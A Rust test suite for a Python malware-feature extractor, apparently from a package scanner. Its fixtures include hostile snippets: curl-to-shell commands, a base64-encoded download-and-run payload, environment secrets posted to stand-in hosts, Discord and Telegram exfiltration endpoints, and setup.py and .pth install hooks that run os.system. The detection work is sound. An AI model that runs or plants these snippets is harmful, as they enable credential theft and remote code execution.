//! The Python extractor: every feature with a snippet that shows it and a near miss that
//! must not, alias forms, the order of steps, calls and imports into the package, install
//! hooks, and hostile input.

use cerebro_features::python::{extract, extract_pth};
use cerebro_features::{CallRef, FileFacts, ModuleRef, Step};

/// Feature ids of `steps`, in order (calls and imports left out).
fn ids(steps: &[Step]) -> Vec<&'static str> {
    steps
        .iter()
        .filter_map(|s| match s {
            Step::Event(e) => Some(e.feature.id()),
            _ => None,
        })
        .collect()
}

/// Feature ids of the top level, then of each function in order.
fn all_ids(facts: &FileFacts) -> Vec<&'static str> {
    let mut out = ids(&facts.top_level);
    for f in &facts.functions {
        out.extend(ids(&f.steps));
    }
    out
}

/// Feature ids of a snippet (top level and functions).
fn feats(src: &str) -> Vec<&'static str> {
    all_ids(&extract("pkg/mod.py", src))
}

fn has(src: &str, id: &str) -> bool {
    feats(src).contains(&id)
}

/// The steps of the function named `name`.
fn function<'a>(facts: &'a FileFacts, name: &str) -> &'a [Step] {
    &facts
        .functions
        .iter()
        .find(|f| f.name == name)
        .unwrap_or_else(|| panic!("no function {name} in {:?}", names(facts)))
        .steps
}

fn names(facts: &FileFacts) -> Vec<&str> {
    facts.functions.iter().map(|f| f.name.as_str()).collect()
}

fn calls(steps: &[Step]) -> Vec<(Option<(String, u32)>, String)> {
    steps
        .iter()
        .filter_map(|s| match s {
            Step::Call(CallRef {
                module, function, ..
            }) => Some((
                module.as_ref().map(|m| (m.spec.clone(), m.level)),
                function.clone(),
            )),
            _ => None,
        })
        .collect()
}

fn imports(steps: &[Step]) -> Vec<(String, u32)> {
    steps
        .iter()
        .filter_map(|s| match s {
            Step::Import(ModuleRef { spec, level }) => Some((spec.clone(), *level)),
            _ => None,
        })
        .collect()
}

fn local(function: &str) -> (Option<(String, u32)>, String) {
    (None, function.to_owned())
}

fn via(spec: &str, level: u32, function: &str) -> (Option<(String, u32)>, String) {
    (Some((spec.to_owned(), level)), function.to_owned())
}

// ----- R: reconnaissance -------------------------------------------------------------------

#[test]
fn r1_import_os_module() {
    assert_eq!(feats("import os"), ["R1"]);
    assert_eq!(feats("import platform, getpass"), ["R1", "R1"]);
    assert_eq!(feats("from pwd import getpwall"), ["R1"]);
    // Near misses: other modules, the name in a string.
    assert!(feats("import sys, json, re").is_empty());
    assert!(feats("x = 'import os'").is_empty());
}

#[test]
fn r2_os_module_calls() {
    assert_eq!(feats("import os\nos.getcwd()"), ["R1", "R2"]);
    assert_eq!(feats("import platform\nplatform.node()"), ["R1", "R2"]);
    assert_eq!(feats("import getpass\ngetpass.getuser()"), ["R1", "R2"]);
    assert_eq!(feats("import os\nos.listdir('.')"), ["R1", "R2"]);
    assert_eq!(feats("import socket\nsocket.gethostname()"), ["D1", "R2"]);
    assert_eq!(feats("import uuid\nuuid.getnode()"), ["R2"]);
    // Near misses: a method of some object, path helpers, uuid4.
    assert!(!has(
        "class A:\n    def f(self):\n        self.getcwd()",
        "R2"
    ));
    assert!(!has("import os\nos.path.join('a', 'b')", "R2"));
    assert!(!has("import uuid\nuuid.uuid4()", "R2"));
    assert!(!has("getcwd()", "R2"));
}

#[test]
fn r3_import_file_system_module() {
    assert_eq!(feats("import shutil"), ["R3"]);
    assert_eq!(feats("from pathlib import Path"), ["R3"]);
    assert_eq!(feats("import glob, tempfile"), ["R3", "R3"]);
    assert_eq!(feats("from os import path"), ["R3"]);
    assert!(feats("import json").is_empty());
}

#[test]
fn r4_file_system_calls() {
    assert_eq!(feats("open('x').read()"), ["R4"]);
    assert_eq!(feats("import shutil\nshutil.copy('a', 'b')"), ["R3", "R4"]);
    assert_eq!(
        feats("from pathlib import Path\nPath('x').read_text()"),
        ["R3", "R4"]
    );
    assert_eq!(feats("import os\nos.remove('x')"), ["R1", "R4"]);
    assert_eq!(feats("import os\nos.path.exists('x')"), ["R1", "R4"]);
    // Near misses: building a path, an in-memory buffer, `open` of another object.
    assert_eq!(feats("from pathlib import Path\np = Path('x')"), ["R3"]);
    assert_eq!(feats("import io\nio.BytesIO(b'')"), ["R3"]);
    assert!(feats("img.open()").is_empty());
    assert!(feats("def open(x): pass\nopen('y')").is_empty());
}

#[test]
fn r5_sensitive_information() {
    assert_eq!(feats("import os\nos.environ['AWS_SECRET']"), ["R1", "R5"]);
    assert_eq!(feats("import os\nos.getenv('TOKEN')"), ["R1", "R5"]);
    assert_eq!(feats("import os\nenv = dict(os.environ)"), ["R1", "R5"]);
    assert_eq!(feats("import os\nos.environ.items()"), ["R1", "R5"]);
    assert_eq!(
        feats("from os import environ\nenviron.get('X')"),
        ["R1", "R5"]
    );
    assert_eq!(
        feats("from os import environ\nx = environ['X']"),
        ["R1", "R5"]
    );
    assert_eq!(feats("p = '~/.ssh/id_rsa'"), ["R5"]);
    assert_eq!(
        feats("import browser_cookie3\nbrowser_cookie3.chrome()"),
        ["R5"]
    );
    // Near misses: a local dict named environ, an ordinary config path.
    assert!(feats("environ = {}\nenviron['x'] = 1").is_empty());
    assert!(!has(
        "import os\nos.path.expanduser('~/.config/app/settings.toml')",
        "R5"
    ));
}

// ----- D: network --------------------------------------------------------------------------

#[test]
fn d1_import_network_module() {
    assert_eq!(feats("import requests"), ["D1"]);
    assert_eq!(feats("import urllib.request"), ["D1"]);
    assert_eq!(feats("from http import client"), ["D1"]);
    assert_eq!(feats("import socket, smtplib"), ["D1", "D1"]);
    // Parsing URLs is not networking.
    assert!(feats("from urllib.parse import urlparse").is_empty());
    assert!(feats("import urllib.parse").is_empty());
    assert!(feats("import json").is_empty());
}

#[test]
fn d2_network_calls() {
    assert_eq!(
        feats("import requests\nrequests.post(u, data=d)"),
        ["D1", "D2"]
    );
    assert_eq!(
        feats("from urllib.request import urlopen\nurlopen(u).read()"),
        ["D1", "D2"]
    );
    assert_eq!(
        feats("import socket\ns = socket.socket()\ns.connect((h, 4444))"),
        ["D1", "D2", "D2"]
    );
    assert_eq!(
        feats("import http.client\nc = http.client.HTTPSConnection(h)\nc.request('GET', '/')"),
        ["D1", "D2", "D2"]
    );
    // Near misses: a variable named requests, a method on the response.
    assert!(feats("requests = []\nrequests.append(1)").is_empty());
    assert!(feats("def f(requests):\n    requests.get('a')").is_empty());
    assert_eq!(
        feats("import requests\nr = requests.get(u)\nr.json()"),
        ["D1", "D2"]
    );
}

#[test]
fn d3_url_literals() {
    assert_eq!(feats("u = 'https://evil.example/payload'"), ["D3"]);
    assert_eq!(feats("h = '45.61.1.9'"), ["D3"]);
    assert_eq!(feats("u = f'https://{host}/api'"), ["D3"]);
    // Split literals are judged joined.
    assert_eq!(feats("u = 'htt' + 'ps://evil' + '.example/x'"), ["D3"]);
    // Near misses: a docstring with a URL, a version number.
    assert!(feats("'''See https://docs.example.com.'''\nx = 1").is_empty());
    assert!(feats("def f():\n    \"\"\"See https://x.example.\"\"\"\n    return 1").is_empty());
    assert!(feats("v = '1.0.0.2'").is_empty());
}

#[test]
fn d4_exfiltration_endpoints() {
    assert_eq!(
        feats("w = 'https://discord.com/api/webhooks/123/abc'"),
        ["D3", "D4"]
    );
    // Hex escapes do not hide an endpoint.
    assert!(has(
        r"w = '\x68\x74\x74\x70\x73://api.telegram.org/bot1/sendMessage'",
        "D4"
    ));
    assert!(!has("w = 'https://discord.com/invite/abc'", "D4"));
}

// ----- E: encoding -------------------------------------------------------------------------

#[test]
fn e1_import_encoding_module() {
    assert_eq!(feats("import base64"), ["E1"]);
    assert_eq!(feats("from cryptography.fernet import Fernet"), ["E1"]);
    assert_eq!(feats("import zlib, marshal"), ["E1", "E1"]);
    assert!(feats("import hashlib").is_empty());
}

#[test]
fn e2_encoding_calls() {
    assert_eq!(feats("import base64\nbase64.b64decode(s)"), ["E1", "E2"]);
    assert_eq!(feats("bytes.fromhex('6869')"), ["E2"]);
    assert_eq!(feats("x = s.decode('hex')"), ["E2"]);
    assert_eq!(feats("x = s.encode('rot13')"), ["E2"]);
    assert_eq!(feats("x = ''.join(chr(c) for c in codes)"), ["E2"]);
    assert_eq!(feats("x = 'moc.live'[::-1]"), ["E2"]);
    assert_eq!(
        feats("from Crypto.Cipher import AES\nAES.new(k, AES.MODE_CBC).decrypt(d)"),
        ["E1", "E2", "E2"]
    );
    assert_eq!(
        feats("from fernet import Fernet\nFernet(k).decrypt(t)"),
        ["E1", "E2", "E2"]
    );
    // Near misses: text decoding, joining parts, reversing a list.
    assert!(feats("x = s.decode('utf-8')").is_empty());
    assert!(feats("x = ''.join(parts)").is_empty());
    assert!(feats("x = items[::-1]").is_empty());
}

#[test]
fn e3_base64_literals() {
    let blob = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgaHR0cDovL2V2aWwuY29tIHwgc2gnKQ==";
    assert_eq!(feats(&format!("p = '{blob}'")), ["E3"]);
    assert!(
        feats("h = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08'").is_empty()
    );
}

#[test]
fn e4_long_literals_and_oversized_files() {
    assert_eq!(feats(&format!("p = '{}'", "ab ".repeat(700))), ["E4"]);
    assert!(feats("p = 'short text'").is_empty());
    // A file over the parse limit is one E4 at line 1.
    let big = "x = 1\n".repeat(3 * 1024 * 1024 / 6 + 1);
    let facts = extract("big.py", &big);
    assert_eq!(ids(&facts.top_level), ["E4"]);
    match &facts.top_level[0] {
        Step::Event(e) => {
            assert_eq!(e.line, 1);
            assert!(
                e.detail.starts_with("file too large to parse ("),
                "{}",
                e.detail
            );
        }
        other => panic!("{other:?}"),
    }
}

// ----- P: payload execution ----------------------------------------------------------------

#[test]
fn p1_import_process_module() {
    assert_eq!(feats("import subprocess"), ["P1"]);
    assert_eq!(feats("from ctypes import windll"), ["P1"]);
    assert_eq!(feats("import multiprocessing"), ["P1"]);
    assert!(feats("cmd = 'subprocess'").is_empty());
    assert!(feats("import threading").is_empty());
}

#[test]
fn p2_process_calls() {
    assert_eq!(
        feats("import subprocess\nsubprocess.Popen(c)"),
        ["P1", "P2"]
    );
    assert_eq!(feats("import os\nos.system(c)"), ["R1", "P2"]);
    assert_eq!(feats("import os\nos.popen(c).read()"), ["R1", "P2"]);
    assert_eq!(feats("import os\nos.execvp(a, b)"), ["R1", "P2"]);
    assert_eq!(
        feats("import ctypes\nctypes.windll.kernel32.VirtualAlloc(0)"),
        ["P1", "P2"]
    );
    // Handing os.system over is as good as calling it.
    assert_eq!(
        feats("import os, threading\nthreading.Thread(target=os.system, args=(c,))"),
        ["R1", "P2"]
    );
    // Near misses: a method named system, path helpers, a process's own methods.
    assert!(!has(
        "class A:\n    def go(self):\n        self.system('x')\n    def system(self, c): pass",
        "P2"
    ));
    assert!(!has("import os\nos.path.join(a, b)", "P2"));
    assert_eq!(
        feats("import subprocess\np = subprocess.Popen(c)\np.communicate()"),
        ["P1", "P2"]
    );
}

#[test]
fn p3_shell() {
    assert_eq!(
        feats("import subprocess\nsubprocess.call(c, shell=True)"),
        ["P1", "P3", "P2"]
    );
    assert_eq!(
        feats("import os\nos.system('curl -s http://x.example/a | sh')"),
        ["R1", "D3", "P3", "P2"]
    );
    assert!(!has(
        "import subprocess\nsubprocess.call(c, shell=False)",
        "P3"
    ));
    assert!(!has("run(cmd, shell=flag)", "P3"));
}

#[test]
fn p4_runtime_evaluation() {
    assert_eq!(feats("exec(code)"), ["P4"]);
    assert_eq!(feats("eval(code)"), ["P4"]);
    assert_eq!(feats("compile(src, 'x', 'exec')"), ["P4"]);
    assert_eq!(feats("import pickle\npickle.loads(b)"), ["P4"]);
    assert_eq!(feats("import marshal\nmarshal.loads(b)"), ["E1", "P4"]);
    assert_eq!(feats("import builtins\nbuiltins.exec(c)"), ["P4"]);
    assert_eq!(feats("getattr(__builtins__, 'exec')(c)"), ["P4"]);
    assert_eq!(feats("import types\ntypes.FunctionType(code, {})"), ["P4"]);
    assert_eq!(feats("import runpy\nrunpy.run_path(p)"), ["P4"]);
    assert_eq!(feats("exec 'print 1'"), ["P4"]);
    // Near misses: methods called eval/compile, a local function named exec.
    assert!(feats("model.eval()").is_empty());
    assert!(feats("import re\nre.compile('x')").is_empty());
    assert!(feats("def exec(x): pass\nexec(1)").is_empty());
}

// ----- H1, O1 ------------------------------------------------------------------------------

const SETUP_WITH_HOOK: &str = "\
from setuptools import setup
from setuptools.command.install import install

class PostInstall(install):
    def run(self):
        install.run(self)
        self.payload()

    def payload(self):
        import os
        os.system('id')

setup(name='x', cmdclass={'install': PostInstall})
";

#[test]
fn h1_setup_cmdclass() {
    let facts = extract("setup.py", SETUP_WITH_HOOK);
    assert_eq!(ids(&facts.top_level), ["H1"]);
    assert_eq!(calls(&facts.top_level), [local("PostInstall.run")]);
    match &facts.top_level[0] {
        Step::Event(e) => {
            assert_eq!(e.detail, "cmdclass install: PostInstall");
            assert_eq!(e.line, 13);
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(
        calls(function(&facts, "PostInstall.run")),
        [local("PostInstall.payload")]
    );
    assert_eq!(ids(function(&facts, "PostInstall.payload")), ["R1", "P2"]);

    // The dict may be built first, or with dict(); the command may come from a module.
    let src = "from setuptools import setup\nfrom .cmds import Hook\nclass Dev:\n    def run(self): pass\n\
               cmds = {'install': Hook}\nsetup(cmdclass=cmds)\nsetup(cmdclass=dict(develop=Dev))";
    let facts = extract("setup.py", src);
    assert_eq!(ids(&facts.top_level), ["H1", "H1"]);
    assert_eq!(
        calls(&facts.top_level),
        [via("cmds", 1, "Hook.run"), local("Dev.run")]
    );
}

#[test]
fn h1_near_misses() {
    assert!(feats("from setuptools import setup\nsetup(name='x', version='1')").is_empty());
    // The stock command is no custom hook.
    assert!(feats(
        "from setuptools import setup\nfrom setuptools.command.install import install\n\
         setup(cmdclass={'install': install})"
    )
    .is_empty());
    // Some other function's cmdclass keyword.
    assert!(feats("class X: pass\nconfigure(cmdclass={'install': X})").is_empty());
    // Commands that installing never runs: their code is not install-time code.
    let facts = extract(
        "setup.py",
        "from setuptools import setup\nclass Tox:\n    def run(self):\n        import os; os.system('tox')\n\
         setup(cmdclass={'test': Tox, 'upload_docs': Tox})",
    );
    assert!(ids(&facts.top_level).is_empty(), "{:?}", facts.top_level);
    assert!(calls(&facts.top_level).is_empty());
    // setup.py's "publish" shortcut runs only for that command; other branches still count.
    let src = "import os, sys\nif sys.argv[-1] == 'publish':\n    os.system('twine upload dist/*')\n    sys.exit()\n\
               if 'upload' in sys.argv:\n    os.system('x')\nelse:\n    os.getcwd()\n";
    assert_eq!(ids(&extract("setup.py", src).top_level), ["R1", "R2"]);
    // Not in another file, not for an install command, not for a negated test.
    assert!(ids(&extract("tool.py", src).top_level).contains(&"P2"));
    for guard in [
        "if sys.argv[-1] == 'install':",
        "if sys.argv[1] != 'publish':",
        "if 'develop' in sys.argv:",
    ] {
        let src = format!("import os, sys\n{guard}\n    os.system('x')\n");
        assert!(
            ids(&extract("setup.py", &src).top_level).contains(&"P2"),
            "{guard}"
        );
    }
    // A build step is one.
    let facts = extract(
        "setup.py",
        "from setuptools import setup\nclass B:\n    def run(self): pass\nsetup(cmdclass={'build_ext': B})",
    );
    assert_eq!(ids(&facts.top_level), ["H1"]);
}

#[test]
fn h1_pth_files() {
    let src = "./vendor\n# comment\nimport os; os.system('id')\n  import sitecustom_x\n";
    let facts = extract_pth("evil.pth", src);
    assert_eq!(ids(&facts.top_level), ["H1", "R1", "P2", "H1"]);
    let lines: Vec<u32> = facts
        .top_level
        .iter()
        .filter_map(|s| match s {
            Step::Event(e) => Some(e.line),
            _ => None,
        })
        .collect();
    assert_eq!(lines, [3, 3, 3, 4]);
    assert_eq!(imports(&facts.top_level), [("sitecustom_x".to_owned(), 0)]);
    // Path lines alone do nothing; `importlib` is a path, not an import line.
    assert!(extract_pth("ok.pth", "/opt/lib\nsrc\nimportlib\n")
        .top_level
        .is_empty());
}

#[test]
fn o1_escaped_strings() {
    let escaped: String = "import os;os.system('id')"
        .bytes()
        .map(|b| format!("\\x{b:02x}"))
        .collect();
    // The literal is obfuscation; exec then runs what it spells (walked in place).
    assert_eq!(
        feats(&format!("exec('{escaped}')")),
        ["O1", "P4", "R1", "P2"]
    );
    // A few escapes (terminal colours) are not obfuscation.
    assert!(feats(r"c = '\x1b[31mred\x1b[0m'").is_empty());
}

#[test]
fn o1_pyarmor_and_confusable_names() {
    assert!(has(
        "from pytransform import pyarmor_runtime\npyarmor_runtime()",
        "O1"
    ));
    assert!(has("__pyarmor__(__name__, __file__, b'x')", "O1"));
    let soup = "lIlIlI = 1\nOO0O0O = lIlIlI + 2\nprint(lIlIlI, OO0O0O)\nf(lIlIlI)";
    assert_eq!(feats(soup).iter().filter(|&&f| f == "O1").count(), 1);
    // Used fewer than three times, or not confusable: ordinary names.
    assert!(feats("lIlIlI = 1\nprint(lIlIlI)").is_empty());
    assert!(feats("OPTIONS = 1\nprint(OPTIONS, OPTIONS, OPTIONS)").is_empty());
    // Many distinct generated names, each used once, are soup too.
    let renamed = "lIlIlI = 1\nIlIlIl = 2\nllIIll = 3\nO0O0OO = 4\nOO00OO = 5\n";
    assert!(has(renamed, "O1"));
    assert!(!has(
        "lIlIlI = 1\nIlIlIl = 2\nllIIll = 3\nO0O0OO = 4\n",
        "O1"
    ));
}

#[test]
fn o1_one_liners_and_deep_nesting() {
    let long = format!(
        "x = (lambda a: a)({})",
        (0..200)
            .map(|i| i.to_string())
            .collect::<Vec<_>>()
            .join("+")
    );
    assert!(long.len() > 500);
    assert_eq!(feats(&long), ["O1"]);
    let long_data = format!(
        "x = [{}]",
        (0..300)
            .map(|i| i.to_string())
            .collect::<Vec<_>>()
            .join(", ")
    );
    assert!(feats(&long_data).is_empty());
    let deep = format!("x = {}1{}", "[".repeat(500), "]".repeat(500));
    assert_eq!(feats(&deep), ["O1"]);
    // A long flat chain is not deep nesting.
    let chain = format!("x = a{}", " + a".repeat(5000));
    assert!(feats(&chain).is_empty());
}

// ----- payloads decoded in place ----------------------------------------------------------

#[test]
fn exec_of_decoded_literals_walks_the_payload() {
    // `import os\nos.system('id')` under base64, zlib+base64 via a name, rot13, hex.
    assert_eq!(
        feats("import base64\nexec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQnKQ=='))"),
        ["E1", "E2", "P4", "R1", "P2"]
    );
    assert_eq!(
        feats(
            "import base64, zlib\nCODE = 'eJzLzC3ILypRyC/myi/WK64sLknN1VDPTFHXBAB6bgjJ'\n\
             exec(zlib.decompress(base64.b64decode(CODE)))"
        ),
        ["E1", "E1", "E3", "E2", "E2", "P4", "R1", "P2"]
    );
    assert_eq!(
        feats("import codecs\nexec(codecs.decode(\"vzcbeg bf\\nbf.flfgrz('vq')\", 'rot13'))"),
        ["E1", "E2", "P4", "R1", "P2"]
    );
    assert_eq!(
        feats("exec(bytes.fromhex('696d706f7274206f730a6f732e73797374656d282769642729'))"),
        ["E2", "P4", "R1", "P2"]
    );
    // A payload inside a payload.
    assert_eq!(
        feats(
            "import base64\n\
             exec(base64.b64decode('aW1wb3J0IHN1YnByb2Nlc3MKZXhlYygic3VicHJvY2Vzcy5jYWxsKDEpIik='))"
        ),
        ["E1", "E3", "E2", "P4", "P1", "P4", "P2"]
    );
    // Payload events sit at the line of the call that runs them.
    let facts = extract("m.py", "x = 1\nexec('import os')");
    match facts.top_level.last() {
        Some(Step::Event(e)) => assert_eq!((e.feature.id(), e.line), ("R1", 2)),
        other => panic!("{other:?}"),
    }
    // Code written to a file is read as code.
    assert_eq!(
        feats("with open('x.py', 'w') as f:\n    f.write('import socket\\nsocket.socket()')"),
        ["R4", "D1", "D2"]
    );
}

#[test]
fn undecodable_payloads_are_left_alone() {
    // Binary data is not parsed; a variable is not a literal.
    assert_eq!(
        feats("import base64\nexec(base64.b64decode('AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8gISIjJCUmJygpKiss'))"),
        ["E1", "E3", "E2", "P4"]
    );
    assert_eq!(feats("exec(code)"), ["P4"]);
    // Writing text that is not code.
    assert_eq!(feats("f.write('hello world')"), Vec::<&str>::new());
}

#[test]
fn imports_later_in_the_module_still_bind() {
    // A state-machine style module may import after the (textually earlier) use.
    assert_eq!(
        feats("while state:\n    if state == 2:\n        os.system(c)\n    if state == 1:\n        import os"),
        ["P2", "R1"]
    );
    // But an import inside a function binds only there.
    assert_eq!(feats("def f():\n    import os\nos.system(c)"), ["R1"]);
}

// ----- alias forms -------------------------------------------------------------------------

#[test]
fn aliases_are_followed() {
    assert_eq!(feats("import subprocess as sp\nsp.Popen(c)"), ["P1", "P2"]);
    assert_eq!(feats("from os import system\nsystem(c)"), ["R1", "P2"]);
    assert_eq!(feats("from os import system as run\nrun(c)"), ["R1", "P2"]);
    assert_eq!(
        feats("from subprocess import *\ncheck_output(c)"),
        ["P1", "P2"]
    );
    assert_eq!(
        feats("import subprocess\ns = subprocess.Popen\ns(c)"),
        ["P1", "P2"]
    );
    assert_eq!(
        feats("import requests\nr = requests\nr.get(u)"),
        ["D1", "D2"]
    );
    assert_eq!(feats("__import__('os').system(c)"), ["P4", "R1", "P2"]);
    assert_eq!(
        feats("import importlib\nm = importlib.import_module('subprocess')\nm.run(c)"),
        ["P4", "P1", "P2"]
    );
    assert_eq!(feats("import os\ngetattr(os, 'system')(c)"), ["R1", "P2"]);
    assert_eq!(feats("import os\nos.path.expanduser('~')"), ["R1", "R4"]);
    assert_eq!(
        feats("import urllib.request\nurllib.request.urlopen(u)"),
        ["D1", "D2"]
    );
    assert_eq!(feats("import os.path\nos.path.isfile(p)"), ["R3", "R4"]);
    assert_eq!(feats("import sys\nsys.modules['os'].system(c)"), ["P2"]);
    assert_eq!(feats("__builtins__.__dict__['eval'](c)"), ["P4"]);
}

#[test]
fn star_imports_resolve_only_exported_names() {
    // Names of a star-imported module resolve; unrelated names do not.
    assert_eq!(
        feats("from os import *\nfrom base64 import *\nsystem(c)\nmodel = load()\nmodel.eval()"),
        ["R1", "E1", "P2"]
    );
    // A local assignment shadows the star import.
    assert_eq!(feats("from os import *\nsystem = print\nsystem(c)"), ["R1"]);
}

#[test]
fn shadowing_rebinds_names() {
    // A parameter, an assignment or a definition hides the import of the same name.
    assert_eq!(feats("import os\ndef f(os):\n    os.system(c)"), ["R1"]);
    assert_eq!(feats("import os\nos = Thing()\nos.system(c)"), ["R1"]);
    assert_eq!(feats("import os\nfor os in xs:\n    os.system(c)"), ["R1"]);
    assert_eq!(feats("import os\nf = lambda os: os.system(c)"), ["R1"]);
    // The shadow ends with the function.
    let facts = extract(
        "m.py",
        "import os\ndef f(os):\n    pass\ndef g():\n    os.system(c)",
    );
    assert_eq!(ids(function(&facts, "g")), ["P2"]);
}

// ----- order -------------------------------------------------------------------------------

#[test]
fn arguments_come_before_the_call() {
    assert_eq!(
        feats("import base64\nexec(base64.b64decode(s))"),
        ["E1", "E2", "P4"]
    );
    assert_eq!(
        feats("import os, requests\nrequests.post('https://x.example', data=os.environ)"),
        ["R1", "D1", "D3", "R5", "D2"]
    );
    // The callee's own receiver is evaluated first.
    assert_eq!(
        feats("from fernet import Fernet\nexec(Fernet(k).decrypt(t))"),
        ["E1", "E2", "E2", "P4"]
    );
}

#[test]
fn statements_in_source_order() {
    let src = "import socket\nimport os\nx = os.getlogin()\nsocket.create_connection(a)";
    assert_eq!(feats(src), ["D1", "R1", "R2", "D2"]);
    let facts = extract("m.py", src);
    let lines: Vec<u32> = facts
        .top_level
        .iter()
        .filter_map(|s| match s {
            Step::Event(e) => Some(e.line),
            _ => None,
        })
        .collect();
    assert_eq!(lines, [1, 2, 3, 4]);
}

// ----- functions, calls and imports into the package ---------------------------------------

#[test]
fn functions_methods_and_nesting() {
    let src = "\
import os

@decorator
def top():
    def inner():
        os.system('a')
    inner()

class Box:
    size = os.getcwd()
    def __init__(self):
        pass
    def open(self):
        return self.close()
    @staticmethod
    def close():
        pass

top()
Box()
";
    let facts = extract("m.py", src);
    assert_eq!(
        names(&facts),
        ["top", "Box.__init__", "Box.open", "Box.close"]
    );
    // Class bodies run at import time, inline.
    assert_eq!(ids(&facts.top_level), ["R1", "R2"]);
    assert_eq!(
        calls(&facts.top_level),
        [local("top"), local("Box.__init__")]
    );
    // A nested def is walked where it is defined; calling it adds nothing.
    assert_eq!(ids(function(&facts, "top")), ["P2"]);
    assert!(calls(function(&facts, "top")).is_empty());
    assert_eq!(calls(function(&facts, "Box.open")), [local("Box.close")]);
    assert_eq!(facts.functions[0].line, 4);
}

#[test]
fn calls_into_the_file_and_the_package() {
    let src = "\
from . import utils
from .helpers import helper
from pkg import tools
import pkg.sub as ps
import pkg.deep.mod
from .models import Client

def local_fn():
    pass

class Base:
    def hook(self):
        pass

class Child(Base):
    def run(self):
        self.hook()
        obj = Child()
        obj.hook()
        self.assertEqual(1, 1)

class Plugin(Client):
    def go(self):
        self.start()

local_fn()
helper()
utils.go()
tools.go()
ps.helper()
pkg.deep.mod.f()
Client()
print(len([]))
";
    let facts = extract("pkg/m.py", src);
    assert_eq!(
        calls(&facts.top_level),
        [
            local("local_fn"),
            via("helpers", 1, "helper"),
            via("", 1, "utils.go"),
            via("pkg", 0, "tools.go"),
            via("pkg.sub", 0, "helper"),
            via("pkg", 0, "deep.mod.f"),
            via("models", 1, "Client.__init__"),
        ]
    );
    // Methods are looked up in the class and its bases; a class without `__init__` has
    // nothing to run on instantiation, and a method found nowhere is no call.
    assert_eq!(
        calls(function(&facts, "Child.run")),
        [local("Base.hook"), local("Base.hook")]
    );
    // A base imported from the package may define it.
    assert_eq!(
        calls(function(&facts, "Plugin.go")),
        [via("models", 1, "Client.start")]
    );
}

#[test]
fn imports_that_may_name_package_modules() {
    let src = "from . import x\nfrom .utils import h\nfrom .. import up\nimport os\n\
               import mypkg.core\nfrom mypkg import api\nimport json";
    let facts = extract("pkg/a.py", src);
    assert_eq!(
        imports(&facts.top_level),
        [
            ("".to_owned(), 1),
            ("x".to_owned(), 1),
            ("utils".to_owned(), 1),
            ("utils.h".to_owned(), 1),
            ("".to_owned(), 2),
            ("up".to_owned(), 2),
            ("mypkg.core".to_owned(), 0),
            ("mypkg".to_owned(), 0),
            ("mypkg.api".to_owned(), 0),
        ]
    );
    // An import inside a function is a step of that function.
    let facts = extract("pkg/a.py", "def f():\n    from .impl import run\n    run()");
    assert_eq!(
        imports(function(&facts, "f")),
        [("impl".to_owned(), 1), ("impl.run".to_owned(), 1)]
    );
    assert_eq!(calls(function(&facts, "f")), [via("impl", 1, "run")]);
}

#[test]
fn callbacks_are_calls() {
    let facts = extract(
        "m.py",
        "import atexit\ndef bye():\n    pass\natexit.register(bye)\n@atexit.register\ndef later():\n    pass",
    );
    assert_eq!(calls(&facts.top_level), [local("bye"), local("later")]);
}

// ----- hostile input -----------------------------------------------------------------------

/// Runs `extract` on a thread with a 2 MB stack, the size of a rayon worker's.
fn survives(src: String) -> FileFacts {
    std::thread::Builder::new()
        .stack_size(2 << 20)
        .spawn(move || extract("hostile.py", &src))
        .expect("spawn")
        .join()
        .expect("extract panicked or overflowed")
}

#[test]
fn hostile_nesting_does_not_overflow() {
    let n = 100_000;
    survives(format!("x = {}1{}", "(".repeat(n), ")".repeat(n)));
    survives(format!("x = {}1{}", "f(".repeat(n), ")".repeat(n)));
    survives(format!("x = {}1{}", "{1: ".repeat(n), "}".repeat(n)));
    survives(format!("x = a{}", ".b()".repeat(n)));
    survives(format!("x = {}1", "lambda: ".repeat(n)));
    survives(format!("x = {}1", "not ".repeat(n)));
    let mut ifs = String::new();
    for i in 0..1500 {
        ifs.push_str(&" ".repeat(i));
        ifs.push_str("if x:\n");
    }
    ifs.push_str(&" ".repeat(1500));
    ifs.push_str("pass\n");
    let facts = survives(ifs);
    assert_eq!(ids(&facts.top_level), ["O1"]);
}

#[test]
fn garbage_empty_and_huge_input() {
    assert!(survives(String::new()).top_level.is_empty());
    survives("\0\0\u{fffd}(((\n\t\t)))]]]:::def class".to_owned());
    survives("x = '''never closed".to_owned());
    survives("def f(:\n  return ))\nclass :\nimport\nfrom . import\n".to_owned());
    let noise: String = (0..100_000u32)
        .map(|i| char::from_u32(32 + (i.wrapping_mul(7919)) % 95).unwrap_or(' '))
        .collect();
    survives(noise);
    // Just over the limit: not parsed. Just under: parsed, steps capped.
    let facts = survives("x = 'a'\n".repeat(3_000_000 / 8));
    assert_eq!(ids(&facts.top_level), ["E4"]);
    let facts = survives("os.system('curl http://a.example/ | sh')\n".repeat(40_000));
    assert!(facts.top_level.len() <= 50_000);
    let facts = extract_pth("x.pth", &"import os\n".repeat(10_000));
    assert!(facts.top_level.len() <= 20_000);
}

#[test]
fn hostile_payloads_and_classes_do_not_overflow() {
    // Payloads inside payloads, each deeply parenthesised: the depth bound spans them all.
    let mut code = format!("{}os.system(1){}", "(".repeat(150), ")".repeat(150));
    for _ in 0..6 {
        let quoted = code.replace('\\', "\\\\").replace('\'', "\\'");
        code = format!("{}exec('{quoted}'){}", "(".repeat(150), ")".repeat(150));
    }
    survives(format!("import os\n{code}"));
    // Classes inheriting from each other through attributes.
    let facts = survives(
        "class A(B.Y):\n    def f(self):\n        self.g()\nclass B(A.X):\n    pass\nA().f()"
            .to_owned(),
    );
    assert!(calls(function(&facts, "A.f")).is_empty());
}
